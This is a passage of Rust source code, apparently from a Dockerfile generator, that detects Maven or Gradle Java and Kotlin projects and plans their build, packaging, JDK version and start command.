//! Java and Kotlin on the JVM: Maven (`pom.xml`, parsed as XML) or Gradle
//! (build scripts read as text). Never runs the build to detect.
//!
//! Decides the build tool, the JDK (an LTS that both the project and the
//! Gradle wrapper accept), how the app is packaged (Spring Boot layers, a
//! shaded/assembly/shadow jar, a runnable jar, or a thin jar plus its
//! dependencies on an explicit classpath), the artefact's exact name, the
//! main class and the port.

use anyhow::{Result, bail};
use serde::Serialize;
use std::collections::BTreeMap;
use std::path::Path;

use super::Language;
use super::gradle::{self, Script};
use super::maven::{self, Pom};
use crate::plan::{Choices, Own, Plan, ProjectFacts, Sourced, Unresolved};
use crate::preset::{Preset, RuntimeKind};
use crate::scan::DirIndex;

pub struct Java;

/// Java LTS releases, oldest first; the last is the preset default.
const LTS: &[u32] = &[8, 11, 17, 21, 25];
/// Where the builder works; with no settings.gradle this folder names the project.
const BUILD_DIR: &str = "/app";
const BUILD_DIR_NAME: &str = "app";
/// How far the main-class search goes into src/main (entries, depth).
const SOURCE_WALK_LIMIT: usize = 5000;
const SOURCE_WALK_DEPTH: usize = 24;
/// Spring Boot's layers, in the order they change least to most.
const BOOT_LAYERS: &[&str] = &["dependencies", "spring-boot-loader", "snapshot-dependencies", "application"];

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Packaging {
    /// A thin jar: the app's classes only; dependencies go on a classpath.
    #[default]
    Thin,
    /// A Spring Boot executable jar, extracted into layers.
    SpringBoot,
    /// maven-shade-plugin: one jar with the dependencies inside.
    Shade,
    /// maven-assembly-plugin `jar-with-dependencies`.
    Assembly,
    /// Gradle's shadow plugin (`shadowJar`).
    Shadow,
    /// Gradle's application plugin (`installDist`: lib/ with every jar).
    Application,
    /// A jar whose manifest names the main class and that needs nothing else.
    RunnableJar,
}

#[derive(Debug, Clone, Default, Serialize)]
pub struct JavaFacts {
    /// maven or gradle
    pub tool: String,
    pub tool_source: String,
    /// mvnw / gradlew is present and usable.
    pub wrapper: bool,
    /// The wrapper lacks its executable bit, so it is run with `sh`.
    pub wrapper_needs_sh: bool,
    /// The Maven or Gradle version the wrapper downloads.
    pub wrapper_version: Option<String>,
    pub kotlin_dsl: bool,
    pub kotlin: bool,
    /// The Java level the build compiles for.
    pub release: Option<Sourced<u32>>,
    pub spring_boot: Option<Sourced<String>>,
    pub packaging: Packaging,
    /// The main class when the jar's manifest names it (`java -jar` works).
    pub manifest_main: bool,
    pub main_class: Option<Sourced<String>>,
    pub main_candidates: Vec<String>,
    pub main_tried: Vec<String>,
    /// The built artefact, relative to the project root (`target/x-1.0.jar`).
    pub artifact: String,
    /// Gradle's application plugin: the jar's name inside `lib/`.
    pub project_name: String,
    /// The Gradle task that builds the artefact.
    pub gradle_task: Option<String>,
    /// Files and folders the dependency step needs besides the build file.
    pub build_files: Vec<String>,
    pub build_dirs: Vec<String>,
}

#[derive(Debug, Clone, Serialize, serde::Deserialize)]
pub struct JavaPlan {
    pub tool: String,
    pub wrapper: bool,
    /// The command that runs the build tool: `mvn`, `./mvnw`, `gradle`, `./gradlew`.
    pub tool_cmd: String,
    pub bind_files: Vec<String>,
    pub bind_dirs: Vec<String>,
    pub cache_dir: String,
    pub build_dir: String,
    /// Resolves dependencies and plugins from the build files alone.
    pub deps_cmd: String,
    /// Compiles and packages, tests skipped.
    pub build_cmd: String,
    /// Turns the artefact into /out (layers, app.jar, lib/).
    pub prepare: Vec<String>,
    /// boot, jar or classpath
    pub layout: String,
    pub artifact: String,
    pub spring_boot: Option<String>,
    pub boot_layers: Vec<String>,
    pub launcher: Option<String>,
    pub main_class: Option<String>,
    pub kotlin: bool,
    /// JVM options for containers, overridable with JAVA_TOOL_OPTIONS.
    pub java_options: String,
    /// distroless's entrypoint is `java -jar`: the CMD is just the jar.
    pub entrypoint_is_java_jar: bool,
    pub cmd: Vec<String>,
}

/// `1.8` → 8, `17` → 17; anything else is refused.
fn parse_level(raw: &str) -> Option<u32> {
    gradle::java_level(raw).filter(|v| (8..=99).contains(v))
}

/// The LTS to build and run on for a project compiled for `level`.
fn lts_for(level: u32) -> u32 {
    LTS.iter().copied().find(|l| *l >= level).unwrap_or(level)
}

/// Characters dockgen puts into shell commands and COPY paths unquoted.
fn safe_name(s: &str) -> bool {
    !s.is_empty() && s.len() <= 200 && s.chars().all(|c| c.is_ascii_alphanumeric() || "._+-".contains(c)) && !s.starts_with(['-', '.'])
}

/// A Java or Kotlin class name: dotted identifiers.
pub fn valid_class_name(s: &str) -> bool {
    s.len() <= 400
        && !s.is_empty()
        && s.split('.').all(|part| {
            let mut chars = part.chars();
            chars.next().is_some_and(|c| c.is_alphabetic() || c == '_' || c == '$')
                && chars.all(|c| c.is_alphanumeric() || c == '_' || c == '$')
        })
}

fn version_at_least(v: &str, min: (u32, u32)) -> bool {
    gradle::major_minor(v).is_some_and(|mm| mm >= min)
}

impl Language for Java {
    fn id(&self) -> &'static str {
        "java"
    }

    fn detect(&self, index: &DirIndex, choices: &Choices) -> Result<ProjectFacts> {
        let mut warnings = Vec::new();
        let mut f = JavaFacts::default();
        let gradle_file = ["build.gradle.kts", "build.gradle"].into_iter().find(|n| index.has_file(n));
        let settings_file = ["settings.gradle.kts", "settings.gradle"].into_iter().find(|n| index.has_file(n));
        let has_pom = index.has_file("pom.xml");
        let has_gradle = gradle_file.is_some() || settings_file.is_some();
        let mvnw = index.has_file("mvnw");
        let gradlew = index.has_file("gradlew");

        f.tool = match (has_pom, has_gradle) {
            (true, true) => {
                let (tool, why) = match (mvnw, gradlew) {
                    (false, true) => ("gradle", "it has a wrapper (gradlew) and Maven has none"),
                    (true, false) => ("maven", "it has a wrapper (mvnw) and Gradle has none"),
                    _ => ("maven", "both or neither have a wrapper, and pom.xml is declarative"),
                };
                warnings.push(format!("both pom.xml and a Gradle build are here; using {tool} because {why}. Remove the other build, or check the Dockerfile builds what you ship"));
                f.tool_source = format!("pom.xml and {} ({why})", gradle_file.or(settings_file).unwrap_or("build.gradle"));
                tool.to_string()
            }
            (true, false) => {
                f.tool_source = "pom.xml".into();
                "maven".into()
            }
            (false, true) => {
                f.tool_source = gradle_file.or(settings_file).unwrap_or_default().to_string();
                "gradle".into()
            }
            (false, false) => bail!(
                "no Java build file in {}: dockgen needs a pom.xml (Maven) or a build.gradle(.kts) (Gradle) at the top level",
                index.root.display()
            ),
        };

        let mut port = None;
        let mut framework = None;
        let mut needs_main = false;
        let mut declared_main: Option<Sourced<String>> = None;
        if f.tool == "maven" {
            let pom = maven::parse("pom.xml", &index.read("pom.xml")?)?;
            self.maven_facts(index, &pom, &mut f, &mut warnings, &mut declared_main, &mut needs_main)?;
        } else {
            let Some(build) = gradle_file else {
                bail!("{} is here but no build.gradle or build.gradle.kts; dockgen reads the root project's build script. Add it, or run dockgen in the folder of the app's project", settings_file.unwrap_or_default());
            };
            self.gradle_facts(index, build, settings_file, &mut f, &mut warnings, &mut declared_main, &mut needs_main)?;
        }

        if let Some(boot) = &f.spring_boot {
            framework = Some(format!("Spring Boot {}", boot.value));
            port = boot_port(index)?;
        }

        // The main class: --main, then the build file, then the sources.
        if let Some(m) = &choices.main {
            if !valid_class_name(m) {
                bail!("--main {m:?} is not a Java class name; pass the fully qualified name, e.g. --main com.example.App");
            }
            f.main_class = Some(Sourced::new(m.clone(), "--main flag"));
        } else if declared_main.is_some() {
            f.main_class = declared_main;
        }
        let (candidates, tried) = if needs_main || f.main_class.is_some() || f.spring_boot.is_none() {
            scan_sources(index)?
        } else {
            (Vec::new(), Vec::new())
        };
        if f.main_class.is_none() && needs_main {
            f.main_tried = tried;
            match candidates.as_slice() {
                [one] => f.main_class = Some(Sourced::new(one.0.clone(), format!("{} (the only class with a main method)", one.1))),
                _ => f.main_candidates = candidates.iter().map(|c| c.0.clone()).collect(),
            }
        }
        if f.spring_boot.is_none() {
            // Port and framework from the main class's source, when it is known.
            let main_file = f.main_class.as_ref().and_then(|m| candidates.iter().find(|c| c.0 == m.value)).map(|c| c.1.clone());
            if let Some(file) = main_file {
                let text = index.read(&file)?;
                port = source_port(&text).map(|p| Sourced::new(p, format!("{file} (listening port)")));
                framework = source_framework(&text).map(str::to_string);
            }
        }

        if f.kotlin {
            framework = Some(match framework {
                Some(fw) => format!("{fw}, Kotlin"),
                None => "Kotlin".to_string(),
            });
        }

        // The JDK: what the build asks for, as an LTS the wrapper can run on.
        let mut version = f.release.as_ref().map(|r| {
            let lts = lts_for(r.value);
            let note = if lts == r.value { String::new() } else { format!(", run on the next LTS {lts}") };
            Sourced::new(lts.to_string(), format!("{}{note}", r.source))
        });
        if f.tool == "gradle" && f.wrapper && let Some(gv) = &f.wrapper_version {
            let jdks = gradle::major_minor(gv).map(gradle::runnable_jdks).unwrap_or_default();
            match &version {
                Some(v) if !jdks.is_empty() && !jdks.contains(&v.value.parse().unwrap_or(0)) => {
                    let wanted: u32 = v.value.parse().unwrap_or(0);
                    if wanted > *jdks.last().unwrap_or(&0) {
                        bail!(
                            "the Gradle wrapper is Gradle {gv} (gradle/wrapper/gradle-wrapper.properties), which cannot run on JDK {wanted} that the build needs ({}); upgrade the wrapper with `./gradlew wrapper --gradle-version {}` or newer",
                            v.source,
                            gradle::first_gradle_for(wanted).unwrap_or_else(|| "9.1".into())
                        );
                    }
                    // Gradle 9 needs JDK 17 to run; it still compiles for older levels.
                    let lts = jdks.iter().copied().find(|j| *j >= wanted).unwrap_or(17);
                    version = Some(Sourced::new(lts.to_string(), format!("{}; JDK {lts} is the oldest LTS Gradle {gv} runs on", v.source)));
                }
                None if jdks.last().is_some_and(|newest| newest < LTS.last().unwrap_or(&25)) => {
                    let newest = jdks.last().copied().unwrap_or(17);
                    version = Some(Sourced::new(newest.to_string(), format!("the newest LTS Gradle {gv} (the wrapper) runs on")));
                }
                _ => {}
            }
        }

        // Spring Boot's actuator answers /actuator/health (UP or DOWN).
        let mut health_path = None;
        for file in &f.build_files {
            if index.read(file).is_ok_and(|t| t.contains("spring-boot-starter-actuator")) {
                health_path = Some(Sourced::new("/actuator/health".to_string(), format!("spring-boot-starter-actuator in {file}")));
                break;
            }
        }

        Ok(ProjectFacts {
            package_manager: Some(f.tool.clone()),
            version,
            framework,
            port,
            health_path,
            warnings,
            own: Own::new(f),
        })
    }

    fn normalize_version(&self, raw: &str) -> Result<String> {
        match parse_level(raw) {
            Some(v) => Ok(v.to_string()),
            None => bail!("--lang-version {raw:?} is not a Java version; pass a feature release such as 17, 21 or 25"),
        }
    }

    fn plan(&self, _index: &DirIndex, facts: &ProjectFacts, preset: &Preset, choices: &Choices, plan: &mut Plan) -> Result<()> {
        let f = facts.own_or_bug::<JavaFacts>("Java")?;
        let jdk: u32 = plan.version.value.parse().unwrap_or(0);
        if let Some(r) = &f.release
            && jdk < r.value
        {
            bail!(
                "JDK {jdk} cannot build this project: it compiles for Java {} ({}); pass --lang-version {} or newer",
                r.value, r.source, r.value
            );
        }
        if f.tool == "gradle" && f.wrapper && let Some(gv) = &f.wrapper_version {
            let jdks = gradle::major_minor(gv).map(gradle::runnable_jdks).unwrap_or_default();
            if !jdks.is_empty() && !jdks.contains(&jdk) {
                bail!(
                    "Gradle {gv} (the wrapper) cannot run on JDK {jdk} ({}); it runs on {}. Choose one of those with --lang-version, or upgrade the wrapper",
                    plan.version.source,
                    jdks.iter().map(u32::to_string).collect::<Vec<_>>().join(", ")
                );
            }
        }

        // The builder image.
        let variant = |name: &str| preset.builder.variants.get(name).cloned();
        let builder = match (f.tool.as_str(), f.wrapper) {
            ("maven", false) => Some(preset.builder.image.clone()),
            (_, true) => variant("jdk"),
            _ if jdk >= 25 => variant("gradle9"),
            _ => variant("gradle"),
        };
        match builder {
            Some(b) => plan.set_builder_image(&b),
            None => bail!("dockgen bug: the java preset lacks a builder image variant"),
        }

        let tool_cmd = match (f.tool.as_str(), f.wrapper, f.wrapper_needs_sh) {
            ("maven", true, false) => "./mvnw",
            ("maven", true, true) => "sh mvnw",
            ("maven", false, _) => "mvn",
            (_, true, false) => "./gradlew",
            (_, true, true) => "sh gradlew",
            _ => "gradle",
        };
        let cache_dir = preset.cache.get(f.tool.as_str()).cloned().unwrap_or_else(|| "/root/.m2".into());
        let maven = f.tool == "maven";
        let deps_cmd = if maven {
            format!("{tool_cmd} -B -ntp dependency:go-offline")
        } else {
            format!("{tool_cmd} dependencies --no-daemon -q")
        };

        // How the app starts, and what the build stage leaves in /out.
        let main = f.main_class.as_ref().map(|m| m.value.clone());
        let mut prepare = vec!["mkdir -p /out".to_string()];
        let mut boot_layers = Vec::new();
        let mut launcher = None;
        let mut build_args = String::new();
        let layout;
        let start: Vec<String>;
        match f.packaging {
            Packaging::SpringBoot => {
                let boot = f.spring_boot.as_ref().map(|b| b.value.clone()).unwrap_or_default();
                if version_at_least(&boot, (2, 4)) {
                    layout = "boot";
                    let class = if version_at_least(&boot, (3, 2)) {
                        "org.springframework.boot.loader.launch.JarLauncher"
                    } else {
                        "org.springframework.boot.loader.JarLauncher"
                    };
                    prepare = vec![if version_at_least(&boot, (3, 3)) {
                        format!("java -Djarmode=tools -jar {} extract --layers --launcher --destination /out", f.artifact)
                    } else {
                        format!("java -Djarmode=layertools -jar {} extract --destination /out", f.artifact)
                    }];
                    // An empty layer is not always written; COPY needs each folder.
                    prepare.push(format!("mkdir -p {}", BOOT_LAYERS.iter().map(|l| format!("/out/{l}")).collect::<Vec<_>>().join(" ")));
                    boot_layers = BOOT_LAYERS.iter().map(|s| s.to_string()).collect();
                    launcher = Some(class.to_string());
                    start = vec!["java".into(), class.into()];
                } else {
                    layout = "jar";
                    prepare.push(format!("cp {} /out/app.jar", f.artifact));
                    start = vec!["java".into(), "-jar".into(), "/app/app.jar".into()];
                }
            }
            Packaging::Shade | Packaging::Assembly | Packaging::Shadow | Packaging::RunnableJar => {
                layout = "jar";
                prepare.push(format!("cp {} /out/app.jar", f.artifact));
                start = if f.manifest_main {
                    vec!["java".into(), "-jar".into(), "/app/app.jar".into()]
                } else {
                    match &main {
                        Some(m) => vec!["java".into(), "-cp".into(), "/app/app.jar".into(), m.clone()],
                        None => Vec::new(),
                    }
                };
            }
            Packaging::Thin | Packaging::Application => {
                let has_lib = maven || f.packaging == Packaging::Application;
                layout = if has_lib { "classpath" } else { "jar" };
                if maven {
                    build_args = " dependency:copy-dependencies -DincludeScope=runtime -DoutputDirectory=/out/lib".into();
                    // With no runtime dependency the plugin writes no lib/ folder.
                    prepare = vec!["mkdir -p /out/lib".into()];
                    prepare.push(format!("cp {} /out/app.jar", f.artifact));
                } else if f.packaging == Packaging::Application {
                    let lib = format!("build/install/{}/lib", f.project_name);
                    let jar = Path::new(&f.artifact).file_name().and_then(|n| n.to_str()).unwrap_or_default().to_string();
                    prepare.push(format!("cp -r {lib} /out/lib"));
                    prepare.push(format!("mv /out/lib/{jar} /out/app.jar"));
                } else {
                    prepare.push(format!("cp {} /out/app.jar", f.artifact));
                }
                let cp = if has_lib { "/app/app.jar:/app/lib/*" } else { "/app/app.jar" };
                start = match &main {
                    Some(m) => vec!["java".into(), "-cp".into(), cp.into(), m.clone()],
                    None => Vec::new(),
                };
            }
        }

        let build_cmd = if maven {
            format!("{tool_cmd} -B -ntp package -DskipTests{build_args}")
        } else {
            format!("{tool_cmd} {} -x test --no-daemon", f.gradle_task.as_deref().unwrap_or("jar"))
        };

        let start = match &choices.start {
            Some(s) => s.clone(),
            None if start.is_empty() => {
                let mut u = Unresolved {
                    setting: "main".into(),
                    flag: "--main".into(),
                    message: if f.main_candidates.is_empty() {
                        format!("cannot find the main class: {}", f.main_tried.join("; "))
                    } else {
                        format!("several classes have a main method: {}", f.main_candidates.join(", "))
                    },
                    choices: f.main_candidates.clone(),
                    hint: String::new(),
                };
                u.hint = if f.main_candidates.is_empty() {
                    "--main com.example.App (the class whose main method starts the server)".into()
                } else {
                    format!("--main <{}>", f.main_candidates.join("|"))
                };
                plan.unresolved.push(u);
                Vec::new()
            }
            None => start,
        };

        let entrypoint_is_java_jar = plan.runtime == RuntimeKind::Distroless && start.len() == 3 && start[0] == "java" && start[1] == "-jar";
        let cmd = if entrypoint_is_java_jar { vec![start[2].clone()] } else { start.clone() };
        plan.start = start;
        plan.app = f.project_name.to_lowercase();
        let section = JavaPlan {
            tool: f.tool.clone(),
            wrapper: f.wrapper,
            tool_cmd: tool_cmd.to_string(),
            bind_files: f.build_files.clone(),
            bind_dirs: f.build_dirs.clone(),
            cache_dir,
            build_dir: BUILD_DIR.to_string(),
            deps_cmd,
            build_cmd,
            prepare,
            layout: layout.to_string(),
            artifact: f.artifact.clone(),
            spring_boot: f.spring_boot.as_ref().map(|b| b.value.clone()),
            boot_layers,
            launcher,
            main_class: main,
            kotlin: f.kotlin,
            java_options: "-XX:MaxRAMPercentage=75 -XX:+ExitOnOutOfMemoryError".into(),
            entrypoint_is_java_jar,
            cmd,
        };
        plan.set_section(self.id(), &section)?;
        Ok(())
    }
}

impl Java {
    fn maven_facts(
        &self,
        index: &DirIndex,
        pom: &Pom,
        f: &mut JavaFacts,
        warnings: &mut Vec<String>,
        declared_main: &mut Option<Sourced<String>>,
        needs_main: &mut bool,
    ) -> Result<()> {
        if !pom.modules.is_empty() {
            bail!(
                "pom.xml is a multi-module build (modules: {}); dockgen does not yet pick the module to ship. Run it on a single-module project, or write the Dockerfile's build stage by hand from `dockgen init --stdout` of the app module",
                pom.modules.join(", ")
            );
        }
        match pom.packaging.as_str() {
            "jar" => {}
            "war" => bail!("pom.xml packages a war (<packaging>war</packaging>), which needs a servlet container; dockgen builds runnable jars. Switch to jar packaging (Spring Boot: an executable jar)"),
            other => bail!("pom.xml has <packaging>{other}</packaging>; dockgen builds jar projects"),
        }
        if pom.dependencies.iter().any(|d| d.group_id == "io.quarkus" && d.artifact_id.starts_with("quarkus-")) {
            bail!("pom.xml is a Quarkus app, which packages into its own target/quarkus-app layout; dockgen does not generate Quarkus Dockerfiles yet. Use the Dockerfile.jvm that Quarkus generates in src/main/docker");
        }
        let artifact_id = pom.artifact_id.clone().unwrap_or_default();
        f.project_name = artifact_id.clone();
        f.build_files = vec!["pom.xml".into()];
        if let Some(rel) = &pom.parent_relative_path {
            let rel = rel.trim_start_matches("./");
            let rel = if rel.ends_with(".xml") { rel.to_string() } else { format!("{}/pom.xml", rel.trim_end_matches('/')) };
            if !rel.starts_with("..") && !rel.starts_with('/') && index.is_file(&rel) && safe_path(&rel) {
                f.build_files.push(rel);
            }
        }

        // The wrapper: mvnw plus .mvn/wrapper/maven-wrapper.properties.
        if index.has_file("mvnw") {
            let props = ".mvn/wrapper/maven-wrapper.properties";
            if index.is_file(props) {
                f.wrapper = true;
                f.wrapper_needs_sh = !index.is_executable("mvnw");
                f.wrapper_version = read_properties(index, props)?
                    .get("distributionUrl")
                    .and_then(|u| u.rsplit('/').next()?.strip_prefix("apache-maven-")?.split('-').next().map(str::to_string));
                f.build_files.push("mvnw".into());
                f.build_dirs.push(".mvn".into());
                if f.wrapper_needs_sh {
                    warnings.push("mvnw is not executable in this checkout; the Dockerfile runs it with sh. Fix it with `git update-index --chmod=+x mvnw`".into());
                }
            } else {
                warnings.push(format!("mvnw is here but {props} is not, so the wrapper cannot run; building with the maven image instead"));
            }
        }

        // Java level.
        let compiler = pom.plugin("maven-compiler-plugin");
        let kotlin_plugin = pom.plugin("kotlin-maven-plugin");
        f.kotlin = kotlin_plugin.is_some();
        let candidates: [(Option<&str>, &str); 7] = [
            (compiler.and_then(|c| c.get("release")), "maven-compiler-plugin <release>"),
            (pom.properties.get("maven.compiler.release").map(String::as_str), "maven.compiler.release"),
            (compiler.and_then(|c| c.get("target")), "maven-compiler-plugin <target>"),
            (pom.properties.get("maven.compiler.target").map(String::as_str), "maven.compiler.target"),
            (pom.properties.get("maven.compiler.source").map(String::as_str), "maven.compiler.source"),
            (pom.properties.get("java.version").map(String::as_str), "java.version"),
            (kotlin_plugin.and_then(|k| k.get("jvmTarget")).or(pom.properties.get("kotlin.compiler.jvmTarget").map(String::as_str)), "kotlin jvmTarget"),
        ];
        for (value, name) in candidates {
            let Some(value) = value else { continue };
            match parse_level(value) {
                Some(v) => {
                    f.release = Some(Sourced::new(v, format!("pom.xml ({name} {value})")));
                    break;
                }
                None => warnings.push(format!("pom.xml sets {name} to {value:?}, which dockgen cannot read as a Java version; it is ignored")),
            }
        }

        // Spring Boot: the parent, an imported BOM, or the plugin's version.
        let boot_parent = pom.parent.as_ref().filter(|p| {
            p.group_id == "org.springframework.boot" && matches!(p.artifact_id.as_str(), "spring-boot-starter-parent" | "spring-boot-parent" | "spring-boot-dependencies")
        });
        let boot_bom = pom.boms.iter().find(|b| b.artifact_id == "spring-boot-dependencies");
        let boot_plugin = pom.plugin("spring-boot-maven-plugin");
        let uses_boot = boot_parent.is_some() || boot_bom.is_some() || boot_plugin.is_some() || pom.dependencies.iter().any(|d| d.group_id == "org.springframework.boot");
        if uses_boot {
            let found = [
                (boot_parent.and_then(|p| p.version.clone()), "the parent"),
                (boot_bom.and_then(|b| b.version.clone()), "the spring-boot-dependencies BOM"),
                (boot_plugin.and_then(|p| p.version.clone()), "spring-boot-maven-plugin"),
            ];
            let Some((v, from)) = found.iter().find_map(|(v, from)| v.clone().filter(|v| !v.contains("${")).map(|v| (v, *from))) else {
                bail!("pom.xml uses Spring Boot but dockgen cannot read its version (from the parent, the spring-boot-dependencies BOM or spring-boot-maven-plugin); it decides how the jar is split into layers. Set a literal version on one of them");
            };
            let Some(plugin) = boot_plugin else {
                bail!("pom.xml uses Spring Boot {v} but has no spring-boot-maven-plugin in <build><plugins>, so `mvn package` makes a plain jar that cannot start. Add the plugin (start.spring.io projects have it)");
            };
            if boot_parent.is_none() && !plugin.goals.iter().any(|g| g == "repackage") {
                bail!("pom.xml's spring-boot-maven-plugin has no `repackage` goal and the project does not inherit spring-boot-starter-parent, so the jar is not executable. Add <executions><execution><goals><goal>repackage</goal></goals></execution></executions> to the plugin");
            }
            f.spring_boot = Some(Sourced::new(boot_version("pom.xml", v)?, format!("pom.xml ({from})")));
            f.packaging = Packaging::SpringBoot;
            let base = maven_final_name(pom)?;
            f.artifact = match plugin.get("classifier") {
                Some(c) => format!("target/{base}-{}.jar", checked(c, "the spring-boot-maven-plugin classifier")?),
                None => format!("target/{base}.jar"),
            };
            if plugin.get("enabled") == Some("false") {
                warnings.push("spring-boot-maven-plugin disables layers (<layers><enabled>false</enabled>); the extracted jar will lack a layer index".into());
            }
            return Ok(());
        }

        let base = maven_final_name(pom)?;
        let shade = pom.plugin("maven-shade-plugin").filter(|p| p.goals.iter().any(|g| g == "shade"));
        let assembly = pom
            .plugin("maven-assembly-plugin")
            .filter(|p| p.goals.iter().any(|g| g == "single") && p.get("descriptorRef") == Some("jar-with-dependencies"));
        let jar_main = pom.plugin("maven-jar-plugin").and_then(|p| p.get("mainClass"));
        let exec_main = pom.plugin("exec-maven-plugin").and_then(|p| p.get("mainClass"));
        let prop_main = ["exec.mainClass", "main.class", "mainClass", "start-class"].iter().find_map(|k| pom.properties.get(*k).map(|v| (k, v)));
        let declared = |v: &str, from: &str| -> Result<Option<Sourced<String>>> {
            if v.contains("${") || !valid_class_name(v) {
                bail!("pom.xml names the main class {v:?} ({from}), which is not a class name dockgen can use; set a literal fully qualified name there, or pass --main");
            }
            Ok(Some(Sourced::new(v.to_string(), format!("pom.xml ({from})"))))
        };

        if let Some(shade) = shade {
            f.packaging = Packaging::Shade;
            let name = shade.get("finalName").map(|n| checked(n, "the shade plugin's finalName")).transpose()?.map(str::to_string).unwrap_or_else(|| base.clone());
            f.artifact = if shade.get("shadedArtifactAttached") == Some("true") {
                format!("target/{name}-{}.jar", checked(shade.get("shadedClassifierName").unwrap_or("shaded"), "shadedClassifierName")?)
            } else {
                format!("target/{name}.jar")
            };
            let m = shade.get("mainClass").or(jar_main);
            f.manifest_main = m.is_some();
            *declared_main = match m {
                Some(m) => declared(m, "maven-shade-plugin ManifestResourceTransformer")?,
                None => None,
            };
            *needs_main = m.is_none();
        } else if let Some(asm) = assembly {
            f.packaging = Packaging::Assembly;
            let name = asm.get("finalName").map(|n| checked(n, "the assembly plugin's finalName")).transpose()?.map(str::to_string).unwrap_or_else(|| base.clone());
            f.artifact = if asm.get("appendAssemblyId") == Some("false") { format!("target/{name}.jar") } else { format!("target/{name}-jar-with-dependencies.jar") };
            let m = asm.get("mainClass");
            f.manifest_main = m.is_some();
            *declared_main = match m {
                Some(m) => declared(m, "maven-assembly-plugin <archive><manifest>")?,
                None => None,
            };
            *needs_main = m.is_none();
        } else {
            f.artifact = format!("target/{base}.jar");
            let runtime_deps = pom.runtime_dependencies().count() > 0 || pom.parent.is_some();
            match (jar_main, runtime_deps) {
                (Some(m), false) => {
                    f.packaging = Packaging::RunnableJar;
                    f.manifest_main = true;
                    *declared_main = declared(m, "maven-jar-plugin <manifest><mainClass>")?;
                }
                _ => {
                    f.packaging = Packaging::Thin;
                    *declared_main = match (jar_main, exec_main, prop_main) {
                        (Some(m), _, _) => declared(m, "maven-jar-plugin <manifest><mainClass>")?,
                        (None, Some(m), _) => declared(m, "exec-maven-plugin <mainClass>")?,
                        (None, None, Some((k, v))) => declared(v, &format!("property {k}"))?,
                        _ => None,
                    };
                    *needs_main = true;
                }
            }
        }
        Ok(())
    }

    #[allow(clippy::too_many_arguments)]
    fn gradle_facts(
        &self,
        index: &DirIndex,
        build: &str,
        settings_file: Option<&str>,
        f: &mut JavaFacts,
        warnings: &mut Vec<String>,
        declared_main: &mut Option<Sourced<String>>,
        needs_main: &mut bool,
    ) -> Result<()> {
        let script = Script::new(&index.read(build)?);
        f.kotlin_dsl = build.ends_with(".kts");
        f.kotlin = script.kotlin();
        f.build_files = vec![build.to_string()];
        let (root_name, includes) = match settings_file {
            Some(s) => {
                f.build_files.push(s.to_string());
                gradle::settings(&index.read(s)?)
            }
            None => (None, Vec::new()),
        };
        if !includes.is_empty() {
            bail!(
                "{} includes subprojects ({}); dockgen does not yet pick the subproject to ship from a multi-project Gradle build. Run it on a single-project build",
                settings_file.unwrap_or("settings.gradle"),
                includes.join(", ")
            );
        }
        let props = if index.has_file("gradle.properties") {
            f.build_files.push("gradle.properties".into());
            read_properties(index, "gradle.properties")?
        } else {
            BTreeMap::new()
        };
        if index.has_dir("gradle") {
            f.build_dirs.push("gradle".into());
        }
        if index.has_dir("buildSrc") {
            f.build_dirs.push("buildSrc".into());
        }

        // The wrapper needs gradlew, its jar and its properties.
        if index.has_file("gradlew") {
            let props_file = "gradle/wrapper/gradle-wrapper.properties";
            let jar = "gradle/wrapper/gradle-wrapper.jar";
            if index.is_file(props_file) && index.is_file(jar) {
                f.wrapper = true;
                f.wrapper_needs_sh = !index.is_executable("gradlew");
                f.wrapper_version = read_properties(index, props_file)?.get("distributionUrl").and_then(|u| gradle::wrapper_version(u));
                f.build_files.push("gradlew".into());
                if f.wrapper_needs_sh {
                    warnings.push("gradlew is not executable in this checkout; the Dockerfile runs it with sh. Fix it with `git update-index --chmod=+x gradlew`".into());
                }
                if f.wrapper_version.is_none() {
                    warnings.push(format!("cannot read the Gradle version from {props_file}; the JDK is not checked against it"));
                }
            } else {
                warnings.push(format!("gradlew is here but {jar} or {props_file} is missing (often a *.jar line in .gitignore), so the wrapper cannot run; building with the gradle image instead"));
            }
        }

        if let Some((v, from)) = script.java_version() {
            f.release = Some(Sourced::new(v, format!("{build} ({from} {v})")));
        }

        let name = match root_name {
            Some(n) => n,
            None => {
                warnings.push(format!(
                    "no settings.gradle: Gradle names the project after its folder, which is {BUILD_DIR} in the build stage, so the jar is named {BUILD_DIR_NAME}*.jar; add settings.gradle with rootProject.name to make the name yours"
                ));
                BUILD_DIR_NAME.to_string()
            }
        };
        f.project_name = checked(&name, "rootProject.name")?.to_string();
        let version = match script.version() {
            Ok(Some(v)) => Some(v),
            Ok(None) => props.get("version").cloned(),
            Err(line) => bail!(
                "{build} sets the version with code (`{line}`), so dockgen cannot know the jar's file name; set a literal version, or fix the name with archiveFileName = \"app.jar\" in the jar task"
            ),
        };
        let version = version.filter(|v| v != "unspecified");
        let archive = |task: &str, classifier: Option<&str>| -> Result<String> {
            if let Some(file) = script.archive_setting(task, "archiveFileName") {
                return Ok(format!("build/libs/{}", checked(&file, "archiveFileName")?));
            }
            let base = script.archive_setting(task, "archiveBaseName").unwrap_or_else(|| f.project_name.clone());
            let version = script.archive_setting(task, "archiveVersion").or(version.clone());
            let classifier = script.archive_setting(task, "archiveClassifier").or(classifier.map(str::to_string));
            let mut file = checked(&base, "archiveBaseName")?.to_string();
            for part in [version, classifier].into_iter().flatten().filter(|p| !p.is_empty()) {
                file.push('-');
                file.push_str(checked(&part, "the jar's version or classifier")?);
            }
            Ok(format!("build/libs/{file}.jar"))
        };

        let uses_boot = script.has_plugin("org.springframework.boot");
        if uses_boot {
            let version = script.boot_version().or_else(|| catalog_boot_version(index).ok().flatten());
            let Some(v) = version else {
                bail!("{build} applies Spring Boot but dockgen cannot read its version (plugins block, buildscript classpath or gradle/libs.versions.toml); it decides how the jar is split into layers. Write the version in the plugins block");
            };
            f.spring_boot = Some(Sourced::new(boot_version(build, v)?, build.to_string()));
            f.packaging = Packaging::SpringBoot;
            f.gradle_task = Some("bootJar".into());
            f.artifact = archive("bootJar", None)?;
            return Ok(());
        }

        let app_main = script.main_class();
        let manifest_main = script.manifest_main_class();
        let has_application = script.has_core_plugin("application");
        let shadow = ["com.gradleup.shadow", "com.github.johnrengelman.shadow", "io.github.goooler.shadow"].iter().any(|id| script.has_plugin(id));
        let declared = |v: &str, from: &str| -> Result<Option<Sourced<String>>> {
            if !valid_class_name(v) {
                bail!("{build} names the main class {v:?} ({from}), which is not a class name dockgen can use; set a literal fully qualified name there, or pass --main");
            }
